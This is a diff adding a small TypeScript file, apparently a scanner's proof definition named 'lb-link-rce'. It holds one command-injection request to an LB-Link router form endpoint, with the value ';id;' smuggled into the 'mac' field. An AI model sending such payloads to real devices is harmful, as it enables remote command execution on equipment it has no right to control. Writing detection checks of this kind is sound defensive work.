@@ -1,0 +1,9 @@
+import { type Proof, get, post, proof } from '#tags/proof/sketch.ts'
+
+export const proofs: readonly Proof[] = [
+  proof(
+    'lb-link-rce',
+    post('/goform/set_LimitClient_cfg', 'time1=00:00-00:00&mac=;id;'),
+    get('/goform/set_LimitClient_cfg'),
+  ),
+]
